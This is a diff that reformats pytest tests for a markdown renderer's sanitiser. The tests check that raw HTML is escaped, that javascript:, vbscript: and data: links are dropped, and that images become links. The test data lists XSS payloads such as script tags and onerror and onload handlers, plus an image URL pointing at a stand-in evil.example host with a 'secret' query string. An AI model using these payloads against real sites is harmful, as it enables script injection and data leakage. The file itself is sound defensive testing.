@@ -13,33 +13,39 @@ def test_it_renders_code_blocks_with_their_language():
 
 
 def test_it_renders_lists_tables_emphasis_and_links():
-    html = render_markdown("**bold** _it_ ~~old~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
-                           "[docs](https://example.com)")
-    for fragment in ("<strong>bold</strong>", "<em>it</em>", "<s>old</s>", "<li>one</li>", "<table>",
-                     "<td>1</td>"):
+    html = render_markdown(
+        "**bold** _it_ ~~old~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com)"
+    )
+    for fragment in ("<strong>bold</strong>", "<em>it</em>", "<s>old</s>", "<li>one</li>", "<table>", "<td>1</td>"):
         assert fragment in html
     assert '<a href="https://example.com" rel="noopener noreferrer nofollow">docs</a>' in html
 
 
-@pytest.mark.parametrize("hostile", [
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    '<a href="javascript:alert(1)">x</a>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<svg onload="alert(1)"></svg>',
-])
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        '<a href="javascript:alert(1)">x</a>',
+        '<iframe src="https://evil.example"></iframe>',
+        '<svg onload="alert(1)"></svg>',
+    ],
+)
 def test_raw_html_is_shown_as_text(hostile):
     html = render_markdown(hostile)
     assert "<" + hostile[1:] not in html
     assert html.startswith("<p>&lt;")
 
 
-@pytest.mark.parametrize("link", [
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-])
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[x](vbscript:msgbox(1))",
+    ],
+)
 def test_dangerous_link_schemes_are_dropped(link):
     html = render_markdown(link)
     assert "href" not in html
@@ -49,8 +55,9 @@ def test_images_become_links_so_a_reply_cannot_make_the_browser_fetch_anything()
     html = render_markdown("![chart](https://evil.example/leak?q=secret)")
     assert "<img" not in html
     assert html == '<p><a href="https://evil.example/leak?q=secret" rel="noopener noreferrer nofollow">chart</a></p>\n'
-    assert "<img" not in render_markdown('![a](javascript:alert(1))') and "href" not in render_markdown(
-        "![a](javascript:alert(1))")
+    assert "<img" not in render_markdown("![a](javascript:alert(1))") and "href" not in render_markdown(
+        "![a](javascript:alert(1))"
+    )
 
 
 def test_empty_text_renders_nothing():
